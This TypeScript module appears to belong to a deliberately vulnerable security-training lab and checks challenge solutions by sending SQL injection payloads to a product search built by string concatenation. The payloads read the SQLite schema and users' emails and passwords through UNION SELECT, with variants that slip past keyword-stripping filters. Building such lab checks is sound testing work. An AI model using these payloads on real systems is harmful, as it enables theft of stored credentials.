import type { ChallengeKey } from '../../../../../lab/challenges/catalogue.js'
import type { Ports } from '../../../../../lab/ports.js'
import { search } from '../../../../../lab/proofs/features/shelf.js'
import type { Proof } from '../proof.js'
import { tryTable } from './from-table.js'

interface Source {
  readonly searchProductsByConcatenation: Ports['searchProducts']
}

function proveSearch(key: ChallengeKey, question: string): Proof {
  return {
    async try(version) {
      const { searchProductsByConcatenation } = await version.load<Source>()
      return tryTable(
        key,
        { searchProducts: searchProductsByConcatenation },
        {
          attacks: payloadsFor(question).map(search),
        },
      )
    },
  }
}

export const readSchema = proveSearch(
  'dbSchemaChallenge',
  "union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--",
)
export const readCredentials = proveSearch(
  'unionSqlInjectionChallenge',
  "union select id,'2','3',email,password,'6','7','8','9' from users--",
)

/** Behind a quote that a filter may spend itself on, with words that survive being cut out once, and with the other comment. */
function payloadsFor(question: string): string[] {
  const nested = question.replace(/union|select|from/g, (word) => word.slice(0, 2) + word + word.slice(2))
  const openEnded = question.replace(/--$/, '/*')
  return [`qwert'')) ${question}`, `')) ${question}`, `qwert')) ${nested}`, `qwert')) ${openEnded}`]
}
